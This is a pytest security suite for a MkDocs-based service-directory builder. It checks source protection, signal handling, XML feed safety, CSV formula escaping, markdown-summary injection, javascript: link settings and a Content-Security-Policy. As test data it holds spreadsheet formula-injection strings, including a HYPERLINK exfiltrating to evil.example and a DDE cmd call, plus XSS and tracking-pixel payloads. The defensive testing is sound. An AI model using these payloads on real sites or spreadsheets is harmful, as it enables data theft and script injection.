"""Attack suite, outputs and processes (issue 9): what a pull request or a stopped process can do to the
hub's sources, the site's pages, and the files other tools read (feed, CSV, the reviewers' summary).

Every case checks the black-box outcome: refused with a clear one-line or file:line error, exit != 0, the
sources byte-identical and any previous site intact; or built inert (checked in headless Chromium).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest
from markdown_it import MarkdownIt

from browser import chromium_page, foreign_requests, static_server
from hub_build.render.csp import script_hash
from sitecheck import inspect_html
from hubs import ENV, GOOD_RESOURCE, REPO, dump, hub_build, listing, make_hub, mkdocs_build, run

# --- helpers ---------------------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[str, str]:
    """Every file and symlink below `folder` with the SHA-256 of its bytes (or its link target)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        key = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[key] = "-> " + os.readlink(path)
        elif path.is_file():
            found[key] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[key] = "dir"
    return found


def hub_with_old_site(tmp_path: Path) -> tuple[Path, Path]:
    """(parent folder, hub root): a hub inside `parent`, with a previous site and a neighbour's file beside it."""
    parent = tmp_path / "work"
    root = make_hub(parent / "hub")
    (root / "site").mkdir()
    (root / "site" / "index.html").write_text("the previous site", encoding="utf-8")
    (parent / "neighbour.txt").write_text("someone else's file", encoding="utf-8")
    return parent, root


def assert_one_line_error(done: subprocess.CompletedProcess, *needles: str) -> None:
    assert done.returncode != 0, done.stderr
    text = done.stdout + done.stderr
    assert "Traceback" not in text, text[-2000:]
    assert any(line.startswith("hub-build: ") for line in done.stderr.splitlines()), done.stderr
    for needle in needles:
        assert needle in done.stderr, done.stderr


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def listening(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1):
            return True
    except OSError:
        return False


def processes_mentioning(text: str) -> list[int]:
    """Live processes whose command line contains `text` (Linux /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if text in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def wait_until(check, seconds: float, what: str):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(f"{what} did not happen within {seconds} s")


# --- finding 1: lost sources ------------------------------------------------------------------------

@pytest.mark.parametrize("site_dir, says", [
    ("content", "is the hub's docs folder"),
    (".", "contains the hub's settings file"),
    ("..", "contains the hub's settings file"),
    ("directory", "is the hub's listings folder"),
    ("content/built", "is inside the hub's docs folder"),
    ("directory/site", "is inside the hub's listings folder"),
    (".git", "is the hub's git repository"),
    ("schema", "is not a site built before"),
    ("../elsewhere", "is not a site built before"),
])
def test_build_refuses_a_site_folder_in_or_around_the_sources(tmp_path, site_dir, says):
    parent, root = hub_with_old_site(tmp_path)
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "schema").mkdir()
    (root / "schema" / "service.schema.json").write_text("{}")
    (parent / "elsewhere").mkdir()
    (parent / "elsewhere" / "notes.txt").write_text("someone's notes")
    before = snapshot(parent)
    done = hub_build("build", "-d", site_dir, cwd=root)
    assert_one_line_error(done, says, "nothing was built or changed")
    assert snapshot(parent) == before  # sources, the previous site and the folder above: byte-identical


@pytest.mark.parametrize("site_dir", ["..", ".", "directory", "content"])
def test_site_dir_setting_in_mkdocs_yml_is_refused_by_the_cli_and_plain_mkdocs(tmp_path, site_dir):
    parent, root = hub_with_old_site(tmp_path)
    config = root / "mkdocs.yml"
    config.write_text(config.read_text() + f"site_dir: {site_dir}\n")
    before = snapshot(parent)
    assert_one_line_error(hub_build("build", cwd=root), "nothing was built or changed")
    assert snapshot(parent) == before
    done = mkdocs_build(root)
    assert done.returncode != 0 and "Traceback" not in done.stderr
    assert "site folder" in done.stderr or "site_dir" in done.stderr, done.stderr[-2000:]
    assert snapshot(parent) == before


def test_vocabulary_file_and_a_file_are_not_site_folders(tmp_path):
    parent, root = hub_with_old_site(tmp_path)
    (root / "notes.txt").write_text("notes")
    before = snapshot(parent)
    assert_one_line_error(hub_build("build", "-d", "notes.txt/site", cwd=root), "nothing was built or changed")
    assert snapshot(parent) == before


def test_leftover_staging_folders_are_cleaned_and_ignored_by_git(tmp_path):
    root = make_hub(tmp_path / "hub")
    dead = 4_000_000  # above Linux's largest process id: no live process has it
    for name in (f".site-building-{dead}-abc", ".site-building-legacy", ".site-old"):
        (root / name).mkdir()
        (root / name / "index.html").write_text("stale")
    done = hub_build("build", cwd=root)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in root.iterdir() if p.name.startswith(".site")) == []
    ignored = subprocess.run(["git", "-C", str(REPO), "check-ignore", "--no-index", ".site-building-123-x/",
                              ".site-old/"], capture_output=True, text=True, check=False)
    assert ignored.stdout.split() == [".site-building-123-x/", ".site-old/"], ignored


def test_a_killed_build_stops_mkdocs_and_the_next_build_cleans_up(tmp_path):
    root = make_hub(tmp_path / "hub")
    (root / "site").mkdir()
    (root / "site" / "index.html").write_text("the previous site")
    builder = subprocess.Popen([sys.executable, "-m", "hub_build.commands.cli", "build"], cwd=root, env=ENV,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    staging = wait_until(lambda: list(root.glob(".site-building-*")), 120, "a staging folder")[0]
    children = wait_until(lambda: processes_mentioning(str(staging)), 60, "the mkdocs child")
    builder.kill()  # SIGKILL: hub-build cannot clean up
    builder.wait(timeout=30)
    wait_until(lambda: not processes_mentioning(str(staging)), 30, f"mkdocs child {children} ending")
    assert (root / "site" / "index.html").read_text() == "the previous site"
    done = hub_build("build", cwd=root)
    assert done.returncode == 0, done.stderr
    assert not list(root.glob(".site-building-*")) and not (root / ".site-old").exists()
    assert "Bristol Family Links" in (root / "site" / "services" / "bristol-family-links" / "index.html").read_text()


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_stopping_a_build_stops_mkdocs_and_keeps_the_previous_site(tmp_path, sig):
    root = make_hub(tmp_path / "hub")
    (root / "site").mkdir()
    (root / "site" / "index.html").write_text("the previous site")
    builder = subprocess.Popen([sys.executable, "-m", "hub_build.commands.cli", "build"], cwd=root, env=ENV,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    staging = wait_until(lambda: list(root.glob(".site-building-*")), 120, "a staging folder")[0]
    wait_until(lambda: processes_mentioning(str(staging)), 60, "the mkdocs child")
    builder.send_signal(sig)
    _, err = builder.communicate(timeout=60)
    assert builder.returncode != 0 and "Traceback" not in err, err
    wait_until(lambda: not processes_mentioning(str(staging)), 30, "mkdocs ending")
    assert not staging.exists()
    assert (root / "site" / "index.html").read_text() == "the previous site"


# --- finding 10: tracebacks -------------------------------------------------------------------------

@pytest.mark.parametrize("command", [("build",), ("validate",), ("serve", "-a", "127.0.0.1:1")])
def test_a_mkdocs_yml_syntax_error_is_one_line(tmp_path, command):
    root = make_hub(tmp_path / "hub")
    (root / "mkdocs.yml").write_text("site_name: [broken\nplugins:\n  - hub\n")
    before = snapshot(root)
    assert_one_line_error(hub_build(*command, cwd=root), "mkdocs.yml cannot be read", "line 1")
    assert snapshot(root) == before


FAILING_WRITES = """\
import builtins, errno, os
_open = builtins.open
def _failing(file, mode="r", *args, **kwargs):
    if any(c in mode for c in "wax") and "-building-" in str(file) and str(file).endswith(".html"):
        raise OSError(errno.{code}, os.strerror(errno.{code}), str(file))
    return _open(file, mode, *args, **kwargs)
builtins.open = _failing
"""


@pytest.mark.parametrize("code, says", [("ENOSPC", "No space left on device"), ("EACCES", "Permission denied")])
def test_a_full_disk_or_an_unwritable_file_is_one_line_and_keeps_the_old_site(tmp_path, code, says):
    """The build's writes fail as they would on a full disk or a read-only file (a sitecustomize in the child)."""
    parent, root = hub_with_old_site(tmp_path)
    inject = tmp_path / "inject"
    inject.mkdir()
    (inject / "sitecustomize.py").write_text(FAILING_WRITES.replace("{code}", code))
    env = {**ENV, "PYTHONPATH": os.pathsep.join([str(inject), str(REPO), ENV.get("PYTHONPATH", "")])}
    before = snapshot(parent)
    done = subprocess.run([sys.executable, "-m", "hub_build.commands.cli", "build"], cwd=root, env=env,
                          capture_output=True, text=True, timeout=600, check=False)
    assert_one_line_error(done, says, "was left as it was")
    assert snapshot(parent) == before


def _mount_tmpfs(where: Path, size: str, *options: str) -> bool:
    where.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0 or not shutil.which("mount"):
        return False
    return subprocess.run(["mount", "-t", "tmpfs", "-o", ",".join([f"size={size}", *options]), "tmpfs", str(where)],
                          capture_output=True, check=False).returncode == 0


def test_a_really_full_disk_is_one_line_and_keeps_the_old_site(tmp_path):
    disk = tmp_path / "tiny"
    if not _mount_tmpfs(disk, "256k"):
        pytest.skip("cannot mount a small tmpfs here (needs root); the simulated full disk above still runs")
    try:
        root = make_hub(tmp_path / "hub")
        (disk / "site").mkdir()
        (disk / "site" / "index.html").write_text("the previous site")
        before = snapshot(root)
        done = hub_build("build", "-d", str(disk / "site"), cwd=root)
        assert_one_line_error(done, "No space left on device")
        assert (disk / "site" / "index.html").read_text() == "the previous site"
        assert [p.name for p in disk.iterdir()] == ["site"]
        assert snapshot(root) == before
    finally:
        subprocess.run(["umount", str(disk)], check=False)


def test_an_unwritable_site_folder_is_one_line(tmp_path):
    root = make_hub(tmp_path / "hub")
    locked = tmp_path / "locked"
    if os.geteuid() == 0:
        if not _mount_tmpfs(locked, "1m", "ro"):
            pytest.skip("root ignores permissions and cannot mount a read-only tmpfs here")
    else:
        locked.mkdir()
        locked.chmod(0o500)
    try:
        before = snapshot(root)
        assert_one_line_error(hub_build("build", "-d", str(locked / "site"), cwd=root), "nothing was built or changed")
        assert snapshot(root) == before
    finally:
        if os.geteuid() == 0:
            subprocess.run(["umount", str(locked)], check=False)
        else:
            locked.chmod(0o700)


# --- processes: serve -------------------------------------------------------------------------------

def start_serving(root: Path, port: int, *extra: str) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "hub_build.commands.cli", "serve", "-a", f"127.0.0.1:{port}", *extra],
                            cwd=root, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_stopping_serve_stops_its_children_and_it_is_quiet(tmp_path, sig):
    root = make_hub(tmp_path / "hub", {"old.yaml": listing(last_reviewed="2020-01-01")})
    port = free_port()
    server = start_serving(root, port)
    try:
        wait_until(lambda: listening(port), 120, "serving")
        time.sleep(1)
        server.send_signal(sig)
        out, err = server.communicate(timeout=60)
    finally:
        if server.poll() is None:
            server.kill()
    assert not listening(port), "something is still serving on the port"
    assert not processes_mentioning(f"127.0.0.1:{port}"), "a child of hub-build serve is still running"
    assert "Traceback" not in err, err
    lines = [line for line in (out + err).splitlines() if line.strip()]
    assert lines[0] == f"Serving the hub at http://127.0.0.1:{port}/ (press Ctrl+C to stop)", lines
    assert lines[1:] == ["hub-build: stopped"], lines  # no nav list, no review reminder, no MkDocs chatter


def test_serve_verbose_shows_mkdocs_output(tmp_path):
    root = make_hub(tmp_path / "hub", {"old.yaml": listing(last_reviewed="2020-01-01")})
    port = free_port()
    server = start_serving(root, port, "--verbose")
    try:
        wait_until(lambda: listening(port), 120, "serving")
        server.send_signal(signal.SIGINT)
        _, err = server.communicate(timeout=60)
    finally:
        if server.poll() is None:
            server.kill()
    assert "Building documentation" in err and "over the 365-day review interval" in err


def test_a_port_in_use_is_one_line(tmp_path):
    root = make_hub(tmp_path / "hub")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = hub_build("serve", "-a", f"127.0.0.1:{port}", cwd=root)
    assert_one_line_error(done, f"port {port} on 127.0.0.1 is already in use")
    assert len(done.stderr.strip().splitlines()) == 1


# --- finding 9: outputs other tools read ------------------------------------------------------------

BAD_CHARACTERS = ["\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\x0b", "\x1b", "\x85", "\ue000"]
TEXT_FIELDS = ["name", "summary", "description", "review_owner", "opening_hours"]


def test_characters_that_break_xml_are_refused_at_validation(tmp_path):
    """Every bad character in every kind of text field: one error at the field's own line, and no build."""
    files, expected = {}, {}
    for i, character in enumerate(BAD_CHARACTERS):
        for field in TEXT_FIELDS:
            text = dump(listing(**{field: f"Family {character} Links"}))
            name = f"bad-{i}-{field.replace('_', '-')}.yaml"
            files[name] = text.encode("utf-8")
            line = next(n for n, row in enumerate(text.splitlines(), 1) if row.startswith(f"{field}:"))
            expected[f"directory/{name}"] = (line, field, f"U+{ord(character):04X}")
    files["lone-surrogate.yaml"] = dump(listing(name="Family \ud800 Links")).encode("utf-8", "surrogatepass")
    root = make_hub(tmp_path / "hub", files)
    before = snapshot(root)
    done = hub_build("validate", "--format", "json", cwd=root)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    errors: dict[str, list] = {}
    for problem in json.loads(done.stdout)["problems"]:
        if problem["severity"] == "error":
            errors.setdefault(problem["path"], []).append(problem)
    for path, (line, field, code) in expected.items():
        found = errors.get(path, [])
        assert [(p["line"], p["field"]) for p in found] == [(line, field)], (path, found)
        assert code in found[0]["message"], found
    assert errors.get("directory/lone-surrogate.yaml"), "a file that is not UTF-8 must be an error"
    assert hub_build("build", cwd=root).returncode != 0
    assert snapshot(root) == before


def test_feed_is_well_formed_xml_whatever_valid_text_holds(tmp_path):
    odd = "Links <b>&amp;</b> ]]> \"quoted\" 'single' \u2028 \u202f \U0001f600 \u05e9\u05dc\u05d5\u05dd \ufeff end"
    root = make_hub(tmp_path / "hub", {"odd.yaml": listing(name=odd, summary=odd)},
                    resources={"guide.md": {**GOOD_RESOURCE, "title": odd, "summary": odd}})
    done = hub_build("build", cwd=root)
    assert done.returncode == 0, done.stderr
    raw = (root / "site" / "feed.xml").read_bytes()
    ET.fromstring(raw)  # noqa: S314 - the hub's own feed, parsed strictly on purpose; strict XML parser: raises on any malformed byte
    feed = feedparser.parse(raw)
    assert not feed.bozo, feed.bozo_exception
    titles = {entry.title for entry in feed.entries}
    assert " ".join(odd.split()) in {" ".join(t.split()) for t in titles}, titles


def test_site_name_with_a_noncharacter_is_refused(tmp_path):
    root = make_hub(tmp_path / "hub")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text().replace("site_name: Test hub", "site_name: \"Test \\uFFFE hub\""))
    done = hub_build("validate", cwd=root)
    assert done.returncode == 1 and "mkdocs.yml:1:1: error: site_name:" in done.stdout, done.stdout


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "=cmd|' /C calc'!A0"]


def test_review_csv_cells_cannot_run_as_formulas(tmp_path):
    listings = {f"formula-{i}.yaml": listing(name=text, review_owner=text, organisation={"name": text},
                                             last_reviewed="2020-01-01")
                for i, text in enumerate(FORMULAS)}
    root = make_hub(tmp_path / "hub", listings)
    for group in ("organisation", "owner"):
        done = hub_build("review", "--format", "csv", "--all", "--group-by", group, cwd=root)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
        rows = list(csv.reader(io.StringIO(done.stdout)))
        assert len(rows) == 1 + len(FORMULAS)
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    int(cell)  # only numbers (days overdue may be negative) may start so
        shown = {row[rows[0].index("title")] for row in rows[1:]}
        assert shown == {"'" + text for text in FORMULAS}  # the text is kept, marked as text


def git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True,
                   env={**ENV, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"})


CRAFTED = [
    "x](https://evil.example/) ![pixel](https://evil.example/p.png)",
    "<img src=x onerror=alert(1)> <a href='https://evil.example'>here</a>",
    "`` ![pixel](https://evil.example/p.png) ``",
    "a\n\n# Approved by the maintainers\n\n![pixel](https://evil.example/p.png)",
    "www.evil.example and https://evil.example/path",
    "| table | break |\n|---|---|",
]


def test_reviewers_summary_cannot_be_broken_out_of(tmp_path):
    root = make_hub(tmp_path / "hub")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "start")
    for i, text in enumerate(CRAFTED):
        data = listing(name=" ".join(text.split()) or "x")
        data[text] = "crafted key"
        (root / "directory" / f"crafted-{i}.yaml").write_text(dump(data), encoding="utf-8")
    (root / "directory" / "x`![p](https__evil.example_p.png)`.yaml").write_text(dump(listing()), encoding="utf-8")
    changed = dict(listing())
    changed["summary"] = "Changed."
    changed["`` ![pixel](https://evil.example/p.png) ``"] = "a key"
    (root / "directory" / "bristol-family-links.yaml").write_text(dump(changed), encoding="utf-8")
    summary_file = tmp_path / "summary.md"
    done = hub_build("validate", "--changed-since", "main", "--summary", str(summary_file), cwd=root)
    assert "Traceback" not in done.stderr, done.stderr
    markdown = summary_file.read_text(encoding="utf-8")
    rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
    assert "<img" not in rendered and "<a " not in rendered and "<table" not in rendered, rendered
    assert "evil.example" not in re.sub(r"<code>.*?</code>", "", rendered, flags=re.S), rendered
    tags = set(re.findall(r"<([a-z0-9]+)", rendered))
    assert tags <= {"h2", "h3", "ul", "li", "p", "code", "strong"}, tags
    assert rendered.count("<h2>") == 1 and "Approved by the maintainers</h" not in rendered
    items = re.findall(r"<li>", rendered)
    assert len(items) == len(CRAFTED) + 2  # one line per file, whatever its text


@pytest.mark.parametrize("setting, line", [
    ("      edit_url: javascript:alert(1)//{path}", None),
    ("      repository: javascript:alert(1)", None),
    ("repo_url: javascript:alert(1)", None),
    ("edit_uri: 'javascript:alert(1)//'", None),
    ("extra:\n  social:\n    - icon: fontawesome/brands/github\n      link: javascript:alert(1)", 4),
    ("extra:\n  homepage: \"javascript:alert(1)\"", 2),
    ("site_url: data:text/html,hi", None),
])
def test_link_settings_are_checked_like_listing_urls(tmp_path, setting, line):
    root = make_hub(tmp_path / "hub")
    config = root / "mkdocs.yml"
    text = config.read_text()
    if setting.startswith("      "):
        text = text.replace("      edit_url: https://github.com/example/hub/edit/main/{path}\n", setting + "\n")
    else:
        text += setting + "\n"
    config.write_text(text)
    lines = text.splitlines()
    expected = line or next(i for i, row in enumerate(lines, 1) if row == setting.splitlines()[0])
    if line:
        expected = lines.index(setting.splitlines()[0]) + line
    before = snapshot(root)
    done = hub_build("validate", cwd=root)
    assert done.returncode != 0 and "Traceback" not in done.stdout + done.stderr
    assert re.search(rf"mkdocs\.yml:{expected}:1: error: .*javascript|mkdocs\.yml:{expected}:1: error: .*data:",
                     done.stdout) or "repository" in done.stdout + done.stderr, done.stdout + done.stderr
    assert mkdocs_build(root).returncode != 0
    assert snapshot(root) == before


# --- finding 8: a CSP that holds --------------------------------------------------------------------

CSP_PROBE = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
    e => window.__violations.push(e.violatedDirective + " " + e.blockedURI + " " + (e.sample || "")));
"""


@pytest.fixture(scope="module")
def sample_site(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("sample") / "site"
    done = run("-m", "hub_build.commands.cli", "build", "-d", str(out), cwd=REPO)
    assert done.returncode == 0, done.stderr[-3000:]
    return out


def test_csp_is_the_first_element_of_head_on_every_page(sample_site):
    pages = sorted(sample_site.rglob("*.html"))
    assert len(pages) > 100
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = re.search(r"<head>\s*(<[^>]+>)", text)
        assert head, page
        first = head.group(1)
        assert first.startswith('<meta http-equiv="Content-Security-Policy"'), (page, first)
        policy = dict(part.strip().split(" ", 1) for part in re.search(r'content="([^"]+)"', first).group(1).split(";"))
        assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
        assert policy["object-src"] == "'none'" and policy["base-uri"] == "'self'" and policy["form-action"] == "'self'"
        assert text.find("<meta charset") < 1024, page  # the charset still comes within the first 1024 bytes


def test_every_inline_script_of_every_page_is_allowed_by_its_own_policy(sample_site):
    """What the browser enforces, checked over the whole site: each executable inline script's hash is listed."""
    for page in sorted(sample_site.rglob("*.html")):
        text = page.read_text(encoding="utf-8")
        policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text).group(1)
        allowed = set(re.search(r"script-src ([^;]+)", policy).group(1).split())
        for attributes, body in inspect_html(text).scripts:
            if attributes.get("src") or attributes.get("type") in ("application/json", "application/ld+json"):
                continue
            assert script_hash(body) in allowed, (page, body[:60])


def representative_pages(site: Path) -> list[str]:
    """One page of each folder at each depth (the theme's snippets differ only by the page's depth)."""
    chosen: dict[tuple, str] = {}
    for page in sorted(site.rglob("*.html")):
        relative = page.relative_to(site)
        key = (relative.parts[0] if len(relative.parts) > 1 else "", len(relative.parts))
        chosen.setdefault(key, relative.as_posix())
    return sorted(chosen.values())


def test_no_csp_violation_and_material_still_works(sample_site):
    pages = representative_pages(sample_site)
    assert len(pages) >= 15
    with static_server(sample_site) as base, chromium_page() as (page, requests):
        page.add_init_script(CSP_PROBE)
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in pages:
            page.goto(base + path, wait_until="load")
            page.wait_for_timeout(100)
            assert page.evaluate("window.__violations") == [], path
            assert page.evaluate("document.head.firstElementChild.httpEquiv") == "Content-Security-Policy", path
            assert page.evaluate("typeof __md_get") == "function", path  # the theme's first inline snippet ran
        page.goto(base + "index.html", wait_until="load")
        # The bundles ran under the policy: the site's search box (Pagefind, with its WebAssembly) finds, and
        # Material's tabs lead to their pages.
        page.set_viewport_size({"width": 1280, "height": 800})
        box = page.locator("#hub-sitesearch-q")
        box.focus()
        box.press_sequentially("visits", delay=30)
        page.wait_for_function("() => document.querySelectorAll('#hub-sitesearch-results li').length > 0")
        page.keyboard.press("Escape")
        tabs = page.locator(".md-tabs__link")
        assert tabs.count() >= 5
        tabs.nth(1).click()
        page.wait_for_load_state("load")
        assert page.url != base + "index.html"
        assert page.evaluate("window.__violations") == []
        assert not dialogs
        assert not foreign_requests(requests, base)


PALETTE_YML = """site_name: Palette hub
docs_dir: content
theme:
  name: material
  font: false
  features: [navigation.tabs, content.tabs.link, announce.dismiss]
  palette:
    - scheme: default
      primary: indigo
      toggle: {icon: material/brightness-7, name: Dark}
    - scheme: slate
      primary: teal
      toggle: {icon: material/brightness-4, name: Light}
nav:
  - Home: index.md
  - Find services: services/index.md
plugins:
  - search
  - hub
"""


def test_palette_toggle_and_content_tabs_work_under_the_policy(tmp_path):
    """The inline snippets that only some hubs use (palette toggle, linked content tabs) are allowed too."""
    root = make_hub(tmp_path / "hub")
    (root / "mkdocs.yml").write_text(PALETTE_YML)
    (root / "content" / "services").mkdir(exist_ok=True)
    done = hub_build("build", cwd=root)
    assert done.returncode == 0, done.stderr[-3000:]
    with static_server(root / "site") as base, chromium_page() as (page, requests):
        page.add_init_script(CSP_PROBE)
        page.goto(base + "index.html", wait_until="load")
        assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") == "default"
        page.locator("label.md-header__button[for^=__palette]:visible").first.click()
        page.wait_for_function("() => document.body.getAttribute('data-md-color-scheme') === 'slate'")
        page.reload(wait_until="load")  # the stored choice is applied by the palette's inline snippet
        assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") == "slate"
        page.goto(base + "services/", wait_until="load")
        assert page.evaluate("window.__violations") == []
        assert not foreign_requests(requests, base)


def test_an_injected_inline_script_is_blocked(sample_site, tmp_path):
    """Suppose a sanitiser bypass: markup in <head> and <body> with inline script, handlers and a script URL."""
    site = tmp_path / "site"
    shutil.copytree(sample_site, site)
    page_file = site / "about" / "index.html"
    text = page_file.read_text(encoding="utf-8")
    payload = ("<script>window.__ran = (window.__ran || 0) + 1; alert(1)</script>"
               "<img src=x onerror=\"window.__ran = 99; alert(2)\">"
               "<a id=js href=\"javascript:window.__ran = 77\">x</a>"
               "<script src=\"https://evil.example/x.js\"></script>"
               "<base href=\"https://evil.example/\"><object data=\"https://evil.example/x.swf\"></object>")
    # Injected right after the policy: it closes <head>, like the front-matter attack of the issue.
    text = re.sub(r'(<meta http-equiv="Content-Security-Policy"[^>]*>)', r"\1<title>x</title></head><body>" + payload,
                  text, count=1)
    text = text.replace("</article>", payload + "</article>", 1)
    page_file.write_text(text, encoding="utf-8")
    with static_server(site) as base, chromium_page() as (page, requests):
        page.add_init_script(CSP_PROBE)
        dialogs, failures = [], {}
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("requestfailed", lambda request: failures.setdefault(request.url, request.failure))
        page.goto(base + "about/", wait_until="load")
        page.evaluate("document.querySelectorAll('#js').forEach(a => a.click())")
        page.wait_for_timeout(500)
        assert page.evaluate("window.__ran") is None
        assert not dialogs
        violations = page.evaluate("window.__violations")
        assert any(v.startswith("script-src") for v in violations), violations
        # The browser never sent them: each foreign request was stopped by the policy before the network.
        foreign = foreign_requests(requests, base)
        assert "https://evil.example/x.js" in foreign
        assert all(failures.get(url) == "csp" for url in foreign), (foreign, failures)
        # The theme's own scripts still ran on that page.
        assert page.evaluate("document.documentElement.classList.contains('js')")
